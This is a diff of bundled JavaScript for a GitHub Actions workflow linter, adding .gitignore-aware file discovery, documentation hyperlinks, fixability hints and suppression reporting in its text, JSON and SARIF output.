+var MAX_GITIGNORE_BYTES = 256 * 1024;
+var SLASH = 47;
+var BACKSLASH = 92;
+function parseGitignore(text) {
+  const patterns2 = [];
+  let start = text.charCodeAt(0) === 65279 ? 1 : 0;
+  while (start <= text.length) {
+    let end = text.indexOf("\n", start);
+    if (end === -1) end = text.length;
+    let line = text.slice(start, end);
+    start = end + 1;
+    if (line.endsWith("\r")) line = line.slice(0, -1);
+    if (line === "" || line.startsWith("#")) continue;
+    line = trimTrailingSpaces(line);
+    const pattern = parsePattern(line);
+    if (pattern) patterns2.push(pattern);
+    if (end === text.length) break;
+  }
+  return patterns2;
+}
+function trimTrailingSpaces(line) {
+  let lastSpace = -1;
+  for (let i = 0; i < line.length; i++) {
+    const char = line[i];
+    if (char === " ") {
+      if (lastSpace === -1) lastSpace = i;
+      continue;
+    }
+    if (char === "\\") {
+      i++;
+      if (i >= line.length) return line;
+    }
+    lastSpace = -1;
+  }
+  return lastSpace === -1 ? line : line.slice(0, lastSpace);
+}
+function parsePattern(line) {
+  let body = line;
+  const negated = body.startsWith("!");
+  if (negated) body = body.slice(1);
+  const directoryOnly = body.endsWith("/");
+  if (directoryOnly) body = body.slice(0, -1);
+  if (body === "") return null;
+  const basename2 = !body.includes("/");
+  if (body.startsWith("/")) body = body.slice(1);
+  const parts = basename2 ? [body] : body.split("/");
+  const segments = parts.map((part) => part === "**" && !basename2 ? { kind: "globstar" } : { kind: "glob", tokens: tokenize(part) });
+  if (segments.length > 1 && segments[segments.length - 1].kind === "globstar") segments.splice(segments.length - 1, 0, { kind: "one" });
+  return { source: line, negated, directoryOnly, basename: basename2, segments };
+}
+function tokenize(glob) {
+  const tokens = [];
+  for (let i = 0; i < glob.length; i++) {
+    const code = glob.charCodeAt(i);
+    if (code === 42) {
+      if (tokens.length === 0 || tokens[tokens.length - 1].kind !== "star") tokens.push({ kind: "star" });
+    } else if (code === 63) {
+      tokens.push({ kind: "any" });
+    } else if (code === BACKSLASH) {
+      if (i + 1 >= glob.length) return [{ kind: "never" }];
+      tokens.push({ kind: "literal", code: glob.charCodeAt(++i) });
+    } else if (code === 91) {
+      const set2 = parseSet(glob, i);
+      if (!set2) return [{ kind: "never" }];
+      tokens.push(set2.token);
+      i = set2.end;
+    } else {
+      tokens.push({ kind: "literal", code });
+    }
+  }
+  return tokens;
+}
+var CLASSES = {
+  alnum: (c) => isDigit2(c) || isAlpha(c),
+  alpha: (c) => isAlpha(c),
+  blank: (c) => c === 32 || c === 9,
+  cntrl: (c) => c < 32 || c === 127,
+  digit: (c) => isDigit2(c),
+  graph: (c) => c > 32 && c < 127,
+  lower: (c) => c >= 97 && c <= 122,
+  print: (c) => c >= 32 && c < 127,
+  punct: (c) => c > 32 && c < 127 && !isDigit2(c) && !isAlpha(c),
+  space: (c) => c === 32 || c >= 9 && c <= 13,
+  upper: (c) => c >= 65 && c <= 90,
+  xdigit: (c) => isDigit2(c) || c >= 65 && c <= 70 || c >= 97 && c <= 102
+};
+function isDigit2(c) {
+  return c >= 48 && c <= 57;
+}
+function isAlpha(c) {
+  return c >= 65 && c <= 90 || c >= 97 && c <= 122;
+}
+function parseSet(glob, open) {
+  let i = open + 1;
+  let negated = false;
+  if (glob[i] === "!" || glob[i] === "^") {
+    negated = true;
+    i++;
+  }
+  const singles = /* @__PURE__ */ new Set();
+  const ranges = [];
+  const classes = [];
+  let first = true;
+  for (; i < glob.length; i++) {
+    let code = glob.charCodeAt(i);
+    if (code === 93 && !first) {
+      const test = (c) => singles.has(c) || ranges.some(([low, high]) => c >= low && c <= high) || classes.some((member) => member(c));
+      return { token: { kind: "set", negated, test }, end: i };
+    }
+    first = false;
+    if (code === 91 && glob[i + 1] === ":") {
+      const close = glob.indexOf(":]", i + 2);
+      if (close === -1) return null;
+      const member = CLASSES[glob.slice(i + 2, close)];
+      if (!member) return null;
+      classes.push(member);
+      i = close + 1;
+      continue;
+    }
+    if (code === BACKSLASH) {
+      if (i + 1 >= glob.length) return null;
+      code = glob.charCodeAt(++i);
+    }
+    if (glob[i + 1] === "-" && i + 2 < glob.length && glob[i + 2] !== "]") {
+      let high = glob.charCodeAt(i + 2);
+      i += 2;
+      if (high === BACKSLASH) {
+        if (i + 1 >= glob.length) return null;
+        high = glob.charCodeAt(++i);
+      }
+      ranges.push([code, high]);
+      continue;
+    }
+    singles.add(code);
+  }
+  return null;
+}
+function tokenMatches(token, code) {
+  switch (token.kind) {
+    case "literal":
+      return token.code === code;
+    case "any":
+      return code !== SLASH;
+    case "set":
+      return code !== SLASH && token.test(code) !== token.negated;
+    default:
+      return false;
+  }
+}
+function matchSequence(items, isStar, units, unitAt, matches2) {
+  const length = typeof units === "number" ? units : units.length;
+  let item = 0;
+  let unit = 0;
+  let starItem = -1;
+  let starUnit = 0;
+  while (unit < length) {
+    if (item < items.length && isStar(items[item])) {
+      starItem = item++;
+      starUnit = unit;
+    } else if (item < items.length && matches2(items[item], unitAt(unit))) {
+      item++;
+      unit++;
+    } else if (starItem >= 0) {
+      item = starItem + 1;
+      unit = ++starUnit;
+    } else {
+      return false;
+    }
+  }
+  while (item < items.length && isStar(items[item])) item++;
+  return item === items.length;
+}
+function globMatches(tokens, name) {
+  return matchSequence(tokens, (token) => token.kind === "star", name.length, (index) => name.charCodeAt(index), tokenMatches);
+}
+function segmentMatches(segment, name) {
+  return segment.kind === "one" || segment.kind === "glob" && globMatches(segment.tokens, name);
+}
+function patternMatches(pattern, path, isDirectory) {
+  if (pattern.directoryOnly && !isDirectory) return false;
+  if (pattern.basename) {
+    const slash = path.lastIndexOf("/");
+    const segment = pattern.segments[0];
+    return segment.kind === "glob" && globMatches(segment.tokens, slash === -1 ? path : path.slice(slash + 1));
+  }
+  const names = path.split("/");
+  return matchSequence(pattern.segments, (segment) => segment.kind === "globstar", names, (index) => names[index], segmentMatches);
+}
+function lastMatch(files, path, isDirectory) {
+  let decision;
+  for (const file of files) {
+    if (file.folder !== "" && !path.startsWith(`${file.folder}/`)) continue;
+    const inner = file.folder === "" ? path : path.slice(file.folder.length + 1);
+    for (const pattern of file.patterns) if (patternMatches(pattern, inner, isDirectory)) decision = !pattern.negated;
+  }
+  return decision;
+}
+var GitignoreCollector = class {
+  /**
+   * @param root the scanned folder as given (paths passed in are under it)
+   * @param realRoot its real path: a `.gitignore` is read only when its real path is inside it
+   */
+  constructor(root, realRoot) {
+    this.root = root;
+    this.realRoot = realRoot;
+  }
+  root;
+  realRoot;
+  byFolder = /* @__PURE__ */ new Map();
+  ignores(path, isDirectory) {
+    const rel = (0, import_node_path4.relative)(this.root, path);
+    if (rel === "" || rel.startsWith("..")) return false;
+    const parts = import_node_path4.sep === "/" ? rel.split("/") : rel.split(import_node_path4.sep);
+    const files = [];
+    for (let depth = 0; depth < parts.length; depth++) {
+      const file = this.fileOf(parts.slice(0, depth).join("/"));
+      if (file) files.push(file);
+    }
+    return lastMatch(files, parts.join("/"), isDirectory) === true;
+  }
+  fileOf(folder) {
+    let file = this.byFolder.get(folder);
+    if (file === void 0) {
+      const text = readSmallFile(this.realRoot, (0, import_node_path4.join)(this.root, ...folder.split("/").filter(Boolean), ".gitignore"));
+      const patterns2 = text === null ? [] : parseGitignore(text);
+      file = patterns2.length === 0 ? null : { folder, patterns: patterns2 };
+      this.byFolder.set(folder, file);
+    }
+    return file;
+  }
+};
+function readSmallFile(root, path) {
+  let opened;
+  try {
+    opened = openWithin(root, path);
+  } catch {
+    return null;
+  }
+  try {
+    const buffer = Buffer.alloc(Math.min(MAX_GITIGNORE_BYTES, opened.stats.size));
+    let read = 0;
+    while (read < buffer.length) {
+      const count = (0, import_node_fs4.readSync)(opened.fd, buffer, read, buffer.length - read, read);
+      if (count === 0) break;
+      read += count;
+    }
+    return buffer.subarray(0, read).toString("utf8");
+  } catch {
+    return null;
+  } finally {
+    (0, import_node_fs4.closeSync)(opened.fd);
+  }
+}
+
 // server/src/cli/discover.ts
 var STDIN_PATH = "-";
 var STDIN_DISPLAY = "<stdin>";
 function displayPath(absolute, cwd) {
   if (absolute === STDIN_PATH) return STDIN_DISPLAY;
-  const rel = (0, import_node_path4.relative)(cwd, absolute);
+  const rel = (0, import_node_path5.relative)(cwd, absolute);
   if (rel === "") return ".";
-  if (rel.startsWith("..") || (0, import_node_path4.isAbsolute)(rel)) return absolute;
-  return import_node_path4.sep === "/" ? rel : rel.split(import_node_path4.sep).join("/");
+  if (rel.startsWith("..") || (0, import_node_path5.isAbsolute)(rel)) return absolute;
+  return import_node_path5.sep === "/" ? rel : rel.split(import_node_path5.sep).join("/");
 }
-function discover(paths, cwd) {
+function discover(paths, cwd, options = {}) {
   const errors = [];
   const skipped = [];
   const found = /* @__PURE__ */ new Map();
@@ -17267,21 +17811,32 @@ function discover(paths, cwd) {
     found.set(path, { path, displayPath: displayPath(path, cwd), kind, explicit, root, rootPath });
   };
   const visited = /* @__PURE__ */ new Set();
+  let ignored = 0;
   for (const given of paths.length === 0 ? ["."] : paths) {
     if (given === STDIN_PATH) {
       add(STDIN_PATH, "workflow", true, "", "");
       continue;
     }
-    const absolute = (0, import_node_path4.resolve)(cwd, given);
+    const absolute = (0, import_node_path5.resolve)(cwd, given);
     let stats;
     try {
-      stats = (0, import_node_fs4.statSync)(absolute);
+      stats = (0, import_node_fs5.statSync)(absolute);
     } catch (error) {
       errors.push(`${given}: ${describeError(error)}`);
       continue;
     }
     if (stats.isDirectory()) {
-      const walked = walkFolder(absolute, { accept: (file) => classifyPath(file) !== "unknown", visited });
+      let ignore;
+      const realRoot = realPathOrNull(absolute);
+      if ((options.collect ?? "default") === "default" && realRoot !== null) {
+        const gitignore = new GitignoreCollector(absolute, realRoot);
+        ignore = (path, isDirectory) => {
+          const ignores = gitignore.ignores(path, isDirectory);
+          if (ignores) ignored++;
+          return ignores;
+        };
+      }
+      const walked = walkFolder(absolute, { accept: (file) => classifyPath(file) !== "unknown", visited, ignore });
       for (const { path, error } of walked.errors) errors.push(`${displayPath(path, cwd)}: ${describeError(error)}`);
       for (const path of walked.skipped) skipped.push(`${displayPath(path, cwd)}: ${OUTSIDE_ROOT}`);
       for (const file of walked.files) add(file, classifyPath(file), false, walked.realRoot, absolute);
@@ -17290,8 +17845,8 @@ function discover(paths, cwd) {
       let root;
       let real;
       try {
-        root = (0, import_node_fs4.realpathSync)(rootPath);
-        real = (0, import_node_fs4.realpathSync)(absolute);
+        root = (0, import_node_fs5.realpathSync)(rootPath);
+        real = (0, import_node_fs5.realpathSync)(absolute);
       } catch (error) {
         errors.push(`${given}: ${describeError(error)}`);
         continue;
@@ -17306,15 +17861,15 @@ function discover(paths, cwd) {
       errors.push(`${given}: not a regular file or folder`);
     }
   }
-  const targets2 = [...found.values()].sort((a, b) => compareStrings(a.displayPath, b.displayPath));
-  return { targets: targets2, errors, skipped };
+  const targets3 = [...found.values()].sort((a, b) => compareStrings(a.displayPath, b.displayPath));
+  return { targets: targets3, errors, skipped, ignored };
 }
 function explicitFileRoot(absolute) {
-  const parts = absolute.split(import_node_path4.sep);
+  const parts = absolute.split(import_node_path5.sep);
   const dotGithub = parts.lastIndexOf(".github", parts.length - 2);
   const kept = dotGithub >= 0 ? parts.slice(0, dotGithub) : parts.slice(0, -1);
-  const root = kept.join(import_node_path4.sep);
-  return root === "" || /^[A-Za-z]:$/.test(root) ? root + import_node_path4.sep : root;
+  const root = kept.join(import_node_path5.sep);
+  return root === "" || /^[A-Za-z]:$/.test(root) ? root + import_node_path5.sep : root;
 }
 function describeError(error) {
   const code = error?.code;
@@ -17336,8 +17891,14 @@ function compareStrings(a, b) {
   return a < b ? -1 : a > b ? 1 : 0;
 }
 
+// shared/src/rule-docs.ts
+var DOCS_BASE_URL = "https://github.com/actions-warden/actions-warden/blob/main/docs/rules";
+function ruleDocsUrl(ruleId) {
+  return `${DOCS_BASE_URL}/${ruleId}.md`;
+}
+
 // server/src/cli/results.ts
-var import_node_fs5 = require("node:fs");
+var import_node_fs6 = require("node:fs");
 var MAX_READ_BYTES = 3 * MAX_ANALYSED_LENGTH;
 var decoder = new TextDecoder("utf-8");
 function decode(bytes) {
@@ -17349,13 +17910,13 @@ function readTarget(path, root) {
     try {
       if (stats.size > MAX_READ_BYTES) {
         const head = Buffer.alloc(4096);
-        const read = (0, import_node_fs5.readSync)(fd, head, 0, head.length, 0);
+        const read = (0, import_node_fs6.readSync)(fd, head, 0, head.length, 0);
         return { ok: true, tooLarge: stats.size, firstLine: decode(head.subarray(0, read)).split(/\r?\n/)[0] };
       }
-      const bytes = (0, import_node_fs5.readFileSync)(fd);
+      const bytes = (0, import_node_fs6.readFileSync)(fd);
       return { ok: true, text: decode(bytes), file: { real, bytes, stats } };
     } finally {
-      (0, import_node_fs5.closeSync)(fd);
+      (0, import_node_fs6.closeSync)(fd);
     }
   } catch (error) {
     return { ok: false, error: error instanceof RefusedError ? `not read: ${error.message}` : describeError(error) };
@@ -17402,11 +17963,18 @@ function summarize(results) {
   return { files: results.length, findings, bySeverity };
 }
 function sortResults(results) {
-  for (const result of results) result.findings.sort(compareFindings);
+  for (const result of results) {
+    result.findings.sort(compareFindings);
+    result.suppressed?.sort(compareFindings);
+  }
   return results.sort((a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0);
 }
 
 // server/src/cli/format-text.ts
+var FIX_MARKS = { safe: "[fix]", unsafe: "[fix: --fix=all]" };
+function hyperlink(url, text) {
+  return `\x1B]8;;${url}\x1B\\${text}\x1B]8;;\x1B\\`;
+}
 var RESET = "\x1B[0m";
 var BOLD = "\x1B[1m";
 var DIM = "\x1B[2m";
@@ -17423,17 +17991,46 @@ var SEVERITY_COLORS = {
 function formatText(results, options) {
   const paint = (code, text) => options.color ? `${code}${text}${RESET}` : text;
   const out = [];
+  const linked = /* @__PURE__ */ new Set();
   for (const result of results) {
     for (const finding of result.findings) {
       const { line, character } = finding.range.start;
       const location = paint(BOLD, `${pathAtLineStart(result.path)}:${line + 1}:${character + 1}:`);
       const message = joinLines(finding.message);
-      out.push(`${location} ${paint(SEVERITY_COLORS[finding.severity], finding.severity)} ${paint(DIM, finding.ruleId)} ${escapeText(message)}`);
+      const url = ruleDocsUrl(finding.ruleId);
+      const ruleId = options.hyperlinks ? hyperlink(url, paint(DIM, finding.ruleId)) : paint(DIM, finding.ruleId);
+      const fixability = result.fixability?.get(finding);
+      let tail = fixability ? ` ${paint(BOLD, FIX_MARKS[fixability])}` : "";
+      if (!options.hyperlinks && !linked.has(finding.ruleId)) {
+        linked.add(finding.ruleId);
+        tail += ` ${paint(DIM, `(docs: ${url})`)}`;
+      }
+      out.push(`${location} ${paint(SEVERITY_COLORS[finding.severity], finding.severity)} ${ruleId} ${escapeText(message)}${tail}`);
       if (options.codeFrame) out.push(...codeFrame(result, finding, (text) => paint(SEVERITY_COLORS[finding.severity], text), (text) => paint(DIM, text)));
     }
   }
-  out.push(summaryLine(results));
-  return out.join("\n") + "\n";
+  if (options.summary !== false) {
+    const suppressed = results.reduce((sum, result) => sum + (result.suppressed?.length ?? 0), 0);
+    out.push(summaryLine(results) + (suppressed > 0 ? ` (${suppressed} suppressed by ignore comments or the configuration: --no-ignores shows them)` : ""));
+    const fixable = fixableLine(results);
+    if (fixable) out.push(fixable);
+  }
+  return out.length === 0 ? "" : out.join("\n") + "\n";
+}
+function fixableLine(results) {
+  let safe = 0;
+  let unsafe = 0;
+  for (const result of results) {
+    for (const fixability of result.fixability?.values() ?? []) {
+      if (fixability === "safe") safe++;
+      else unsafe++;
+    }
+  }
+  const review = "which also applies unsafe fixes: review the diff with --fix=all --dry-run";
+  if (safe > 0 && unsafe > 0) return `${safe} fixable with --fix; ${unsafe} more with --fix=all, ${review}`;
+  if (safe > 0) return `${safe} fixable with --fix`;
+  if (unsafe > 0) return `${unsafe} fixable with --fix=all, ${review}`;
+  return null;
 }
 function summaryLine(results) {
   const summary = summarize(results);
@@ -17492,12 +18089,6 @@ function formatGithub(results) {
   return out.join("\n") + "\n";
 }
 
-// shared/src/rule-docs.ts
-var DOCS_BASE_URL = "https://github.com/actions-warden/actions-warden/blob/main/docs/rules";
-function ruleDocsUrl(ruleId) {
-  return `${DOCS_BASE_URL}/${ruleId}.md`;
-}
-
 // server/src/cli/format-json.ts
 var JSON_SCHEMA_VERSION = 1;
 function jsonReport(results, options) {
@@ -17537,6 +18128,7 @@ function jsonReport(results, options) {
     schemaVersion: JSON_SCHEMA_VERSION,
     tool: { name: TOOL_NAME, version: VERSION },
     options: { persona: options.persona, minSeverity: options.minSeverity, offline: options.offline },
+    online: options.online ?? false,
     files: results.map((result) => ({ path: result.path, kind: result.kind, findings: result.findings.length })),
     findings,
     summary: summarize(results)
@@ -17575,7 +18167,7 @@ function pathToUri(path) {
   return path.replace(/\\/g, "/").split("/").map((segment) => encodeURIComponent(segment)).join("/");
 }
 function sarifReport(results) {
-  const ruleIds = [...new Set(results.flatMap((result) => result.findings.map((finding) => finding.ruleId)))].sort();
+  const ruleIds = [...new Set(results.flatMap((result) => [...result.findings, ...result.suppressed ?? []].map((finding) => finding.ruleId)))].sort();
   const ruleIndex = new Map(ruleIds.map((id, index) => [id, index]));
   const rules = ruleIds.map((id) => {
     const meta = ruleMeta(id);
@@ -17600,12 +18192,15 @@ ${meta.help}
   for (const result of results) {
     const uri = pathToUri(result.path);
     const occurrences = /* @__PURE__ */ new Map();
-    for (const finding of result.findings) {
+    const suppressedOccurrences = /* @__PURE__ */ new Map();
+    for (const finding of [...result.findings, ...result.suppressed ?? []]) {
       const { start, end } = finding.range;
       const lineText = result.lines.lineText(start.line).trim();
       const key = `${finding.ruleId}\0${result.path}\0${lineText}\0${result.lines.text.slice(finding.span.start, finding.span.end)}`;
-      const occurrence = occurrences.get(key) ?? 0;
-      occurrences.set(key, occurrence + 1);
+      const suppression = isSuppressed(finding) ? finding.suppression : void 0;
+      const counter = suppression ? suppressedOccurrences : occurrences;
+      const occurrence = counter.get(key) ?? 0;
+      counter.set(key, occurrence + 1);
       const fingerprint = (0, import_node_crypto2.createHash)("sha256").update(`${key}\0${occurrence}`).digest("hex").slice(0, 32);
       sarifResults.push({
         ruleId: finding.ruleId,
@@ -17636,6 +18231,7 @@ ${meta.help}
           }))
         } : {},
         partialFingerprints: { [FINGERPRINT_KEY]: fingerprint },
+        ...suppression ? { suppressions: [{ kind: suppression.kind, status: "accepted", ...suppression.justification ? { justification: suppression.justification } : {} }] } : {},
         properties: { severity: finding.severity, confidence: finding.confidence, persona: finding.persona }
       });
     }
@@ -17657,19 +18253,19 @@ function formatSarif(results) {
 }
 
 // server/src/cli/hosts.ts
-var import_node_fs6 = require("node:fs");
-var import_node_path5 = require("node:path");
+var import_node_fs7 = require("node:fs");
+var import_node_path6 = require("node:path");
 function userConfigPath(env, platform = process.platform) {
-  if (env.XDG_CONFIG_HOME) return (0, import_node_path5.join)(env.XDG_CONFIG_HOME, "actions-warden", "config.yml");
-  if (platform === "win32" && env.APPDATA) return (0, import_node_path5.join)(env.APPDATA, "actions-warden", "config.yml");
+  if (env.XDG_CONFIG_HOME) return (0, import_node_path6.join)(env.XDG_CONFIG_HOME, "actions-warden", "config.yml");
+  if (platform === "win32" && env.APPDATA) return (0, import_node_path6.join)(env.APPDATA, "actions-warden", "config.yml");
   const home = env.HOME || (platform === "win32" ? env.USERPROFILE : void 0);
-  return home ? (0, import_node_path5.join)(home, ".config", "actions-warden", "config.yml") : null;
+  return home ? (0, import_node_path6.join)(home, ".config", "actions-warden", "config.yml") : null;
 }
 function readUserConfig(path) {
   if (!path) return null;
   let text;
   try {
-    text = (0, import_node_fs6.readFileSync)(path, "utf8");
+    text = (0, import_node_fs7.readFileSync)(path, "utf8");
   } catch (error) {
     if (error.code === "ENOENT" || error.code === "ENOTDIR") return null;
     return { path, problems: [`cannot be read: ${error.message}`] };
@@ -17782,9 +18378,9 @@ function refusedRepositoryHosts(config, choice) {
 
 // server/src/resolve/cache.ts
 var import_node_crypto3 = require("node:crypto");
-var import_node_fs7 = require("node:fs");
+var import_node_fs8 = require("node:fs");
 var import_node_os = require("node:os");
-var import_node_path6 = require("node:path");
+var import_node_path7 = require("node:path");
 var FORMAT = 1;
 var TtlCache = class {
   constructor(dir, now = Date.now) {
@@ -17799,7 +18395,7 @@ var TtlCache = class {
     if (inMemory && this.now() - inMemory.storedAt < ttlMs) return inMemory.value;
     if (!this.dir) return void 0;
     try {
-      const stored = JSON.parse((0, import_node_fs7.readFileSync)(this.file(key), "utf8"));
+      const stored = JSON.parse((0, import_node_fs8.readFileSync)(this.file(key), "utf8"));
       if (stored.format !== FORMAT || stored.key !== key || typeof stored.storedAt !== "number") return void 0;
       if (this.now() - stored.storedAt >= ttlMs || stored.storedAt > this.now() + 6e4) return void 0;
       this.memory.set(key, { storedAt: stored.storedAt, value: stored.value });
@@ -17813,11 +18409,11 @@ var TtlCache = class {
     this.memory.set(key, stored);
     if (!this.dir || !persist) return;
     try {
-      (0, import_node_fs7.mkdirSync)(this.dir, { recursive: true });
+      (0, import_node_fs8.mkdirSync)(this.dir, { recursive: true });
       const file = this.file(key);
       const temporary = `${file}.${process.pid}.${Math.random().toString(36).slice(2)}.tmp`;
-      (0, import_node_fs7.writeFileSync)(temporary, JSON.stringify({ format: FORMAT, key, ...stored }));
-      (0, import_node_fs7.renameSync)(temporary, file);
+      (0, import_node_fs8.writeFileSync)(temporary, JSON.stringify({ format: FORMAT, key, ...stored }));
+      (0, import_node_fs8.renameSync)(temporary, file);
     } catch {
     }
   }
@@ -17825,13 +18421,13 @@ var TtlCache = class {
     this.memory.clear();
   }
   file(key) {
-    return (0, import_node_path6.join)(this.dir, `${(0, import_node_crypto3.createHash)("sha256").update(key).digest("hex").slice(0, 32)}.json`);
+    return (0, import_node_path7.join)(this.dir, `${(0, import_node_crypto3.createHash)("sha256").update(key).digest("hex").slice(0, 32)}.json`);
   }
 };
 function defaultCliCacheDir(env = process.env) {
-  if (env.XDG_CACHE_HOME && (0, import_node_path6.isAbsolute)(env.XDG_CACHE_HOME)) return (0, import_node_path6.join)(env.XDG_CACHE_HOME, "actions-warden");
-  if (process.platform === "win32" && env.LOCALAPPDATA && (0, import_node_path6.isAbsolute)(env.LOCALAPPDATA)) return (0, import_node_path6.join)(env.LOCALAPPDATA, "actions-warden", "cache");
-  return (0, import_node_path6.join)((0, import_node_os.homedir)(), ".cache", "actions-warden");
+  if (env.XDG_CACHE_HOME && (0, import_node_path7.isAbsolute)(env.XDG_CACHE_HOME)) return (0, import_node_path7.join)(env.XDG_CACHE_HOME, "actions-warden");
+  if (process.platform === "win32" && env.LOCALAPPDATA && (0, import_node_path7.isAbsolute)(env.LOCALAPPDATA)) return (0, import_node_path7.join)(env.LOCALAPPDATA, "actions-warden", "cache");
+  return (0, import_node_path7.join)((0, import_node_os.homedir)(), ".cache", "actions-warden");
 }
 
 // server/src/resolve/advisories.ts
@@ -18594,11 +19190,11 @@ var GitHubResolver = class {
 };
 
 // server/src/cli/online.ts
-function wantsOnline(argv, options, env) {
+function wantsOnline(options, env) {
   if (options.offline) return false;
-  return argv.includes("--online") || options.githubServerUrl !== void 0 || options.githubApiUrl !== void 0 || Boolean(env.GITHUB_TOKEN || env.GH_TOKEN);
+  return options.online || options.githubServerUrl !== void 0 || options.githubApiUrl !== void 0 || Boolean(env.GITHUB_TOKEN || env.GH_TOKEN);
 }
-async function cliOnlineSnapshot(hosts, env, targets2, warn2, resolverOptions = {}) {
+async function cliOnlineSnapshot(hosts, env, targets3, warn2, resolverOptions = {}) {
   const resolver = new GitHubResolver({
     serverUrl: hosts.serverUrl,
     apiUrl: hosts.apiUrl,
@@ -18616,7 +19212,7 @@ async function cliOnlineSnapshot(hosts, env, targets2, warn2, resolverOptions = 
   }
   const serverUrl = `${resolver.http.server.origin}${trimEndOf(resolver.http.server.pathname, "/")}`;
   const files = [];
-  for (const target of targets2) {
+  for (const target of targets3) {
     if (target.path === STDIN_PATH || target.kind === "dependabot") continue;
     const read = readTarget(target.path, target.root);
     if (read.ok && "text" in read) files.push(parseFile(target.path, target.kind, read.text));
@@ -18672,12 +19268,12 @@ Try '${TOOL_NAME} --help' for more information.
     minSeverity: options.explicit.includes("minSeverity") ? options.minSeverity : void 0,
     minConfidence: options.explicit.includes("minConfidence") ? options.minConfidence : void 0
   };
-  const base2 = { ...DEFAULT_ANALYSIS_OPTIONS };
+  const base2 = { ...DEFAULT_ANALYSIS_OPTIONS, ...options.noIgnores || options.format === "sarif" || options.format === "text" ? { keepSuppressed: true } : {} };
   let globalConfig = null;
   if (options.config !== void 0) {
-    const path = (0, import_node_path7.resolve)(io.cwd, options.config);
+    const path = (0, import_node_path8.resolve)(io.cwd, options.config);
     try {
-      (0, import_node_fs8.readFileSync)(path);
+      (0, import_node_fs9.readFileSync)(path);
     } catch (error) {
       io.stderr.write(`${TOOL_NAME}: error: --config ${escapeText(options.config)}: ${escapeText(error instanceof Error ? error.message : String(error))}
 `);
@@ -18692,34 +19288,37 @@ Try '${TOOL_NAME} --help' for more information.
   const configFor = (target) => {
     if (options.noConfig) return { config: null, root: io.cwd };
     if (globalConfig) return globalConfig;
-    const start = target.path === STDIN_PATH ? io.cwd : (0, import_node_path7.dirname)(target.path);
-    let found = foundByFolder.get(start);
-    if (found === void 0) {
+    const start = target.path === STDIN_PATH ? io.cwd : (0, import_node_path8.dirname)(target.path);
+    let found2 = foundByFolder.get(start);
+    if (found2 === void 0) {
       const scannedRoot = target.path === STDIN_PATH ? io.cwd : target.rootPath;
       let boundary = boundaryByRoot.get(scannedRoot);
       if (boundary === void 0) boundaryByRoot.set(scannedRoot, boundary = configSearchBoundary(scannedRoot));
-      found = findConfig(start, boundary);
-      foundByFolder.set(start, found);
+      found2 = findConfig(start, boundary);
+      foundByFolder.set(start, found2);
     }
-    if (!found) return { config: null, root: io.cwd };
-    let choice = discovered.get(found.path);
+    if (!found2) return { config: null, root: io.cwd };
+    let choice = discovered.get(found2.path);
     if (!choice) {
-      choice = { config: loadConfig(found.path, found.format, found.outside), root: found.root };
-      discovered.set(found.path, choice);
+      choice = { config: loadConfig(found2.path, found2.format, found2.outside), root: found2.root };
+      discovered.set(found2.path, choice);
     }
     return choice;
   };
-  const { targets: targets2, errors: discoveryErrors, skipped } = discover(options.paths, io.cwd);
+  const { targets: targets3, errors: discoveryErrors, skipped, ignored } = discover(options.paths, io.cwd, { collect: options.collect });
   errors.push(...discoveryErrors);
   for (const message of skipped) io.stderr.write(`${TOOL_NAME}: note: skipped ${escapeText(message)}
 `);
-  if (wantsOnline(argv, options, io.env)) {
+  let online = false;
+  if (wantsOnline(options, io.env)) {
     const note = (message) => io.stderr.write(`${TOOL_NAME}: note: ${escapeText(message)}
 `);
     const hosts = chooseCliHosts(options, io.env, readUserConfig(userConfigPath(io.env)), note);
-    const repositoryConfigs = new Set(targets2.map((target) => configFor(target).config).filter((config) => config !== null));
+    const repositoryConfigs = new Set(targets3.map((target) => configFor(target).config).filter((config) => config !== null));
     for (const config of repositoryConfigs) config.problems.push(...refusedRepositoryHosts(config, hosts));
-    useOnlineSnapshot(await cliOnlineSnapshot(hosts, io.env, targets2, note));
+    const snapshot = await cliOnlineSnapshot(hosts, io.env, targets3, note, options.cacheDir !== void 0 ? { cacheDir: (0, import_node_path8.resolve)(io.cwd, options.cacheDir) } : {});
+    online = snapshot !== void 0;
+    useOnlineSnapshot(snapshot);
   } else {
     useOnlineSnapshot(void 0);
   }
@@ -18729,11 +19328,11 @@ Try '${TOOL_NAME} --help' for more information.
   const escapedDiffs = [];
   let changedFiles = 0;
   let effectiveMinSeverity = options.minSeverity;
-  for (const target of targets2) {
+  for (const target of targets3) {
     const choice = configFor(target);
     if (choice.config) usedConfigs.add(choice.config);
-    const relative3 = target.path === STDIN_PATH ? target.displayPath : relativeTo(choice.root, target.path);
-    const analysisOptions = optionsWithConfig(base2, choice.config, relative3, overrides);
+    const relative4 = target.path === STDIN_PATH ? target.displayPath : relativeTo(choice.root, target.path);
+    const analysisOptions = optionsWithConfig(base2, choice.config, relative4, overrides);
     effectiveMinSeverity = analysisOptions.minSeverity;
     let read;
     if (target.path === STDIN_PATH) {
@@ -18747,7 +19346,7 @@ Try '${TOOL_NAME} --help' for more information.
     }
     if (options.fix && read.ok && "text" in read && read.file) {
       const source = read.file;
-      const fixed = fixToFixpoint(target, read.text, analysisOptions, options.fix);
+      const fixed = fixToFixpoint(target, read.text, { ...analysisOptions, keepSuppressed: false }, options.fix);
       if (fixed.text !== read.text) {
         if (!isValidUtf8(source.bytes)) {
           errors.push(`${target.displayPath}: not fixed: the file is not valid UTF-8, and rewriting it would replace its invalid bytes (convert it to UTF-8, then run again)`);
@@ -18755,9 +19354,9 @@ Try '${TOOL_NAME} --help' for more information.
           changedFiles++;
           fixReports.push(`${target.displayPath}: ${fixed.describe}`);
           if (options.dryRun) {
-            const report = unifiedDiffReport(read.text, fixed.text, `a/${target.displayPath}`, `b/${target.displayPath}`);
-            diff += report.text;
-            if (report.escaped) escapedDiffs.push(target.displayPath);
+            const report2 = unifiedDiffReport(read.text, fixed.text, `a/${target.displayPath}`, `b/${target.displayPath}`);
+            diff += report2.text;
+            if (report2.escaped) escapedDiffs.push(target.displayPath);
             read = { ok: true, text: fixed.text };
           } else {
             try {
@@ -18775,11 +19374,14 @@ Try '${TOOL_NAME} --help' for more information.
     const result = analyzeTarget(target, read, analysisOptions);
     if ("error" in result) errors.push(result.error);
     else {
+      separateSuppressed(result, options.noIgnores);
+      if (options.format === "text") recordFixability(result);
       settleLazyFixes(result.findings, options.format === "json" ? "compute" : "drop");
+      if (result.suppressed) settleLazyFixes(result.suppressed, "drop");
       results.push(result);
     }
   }
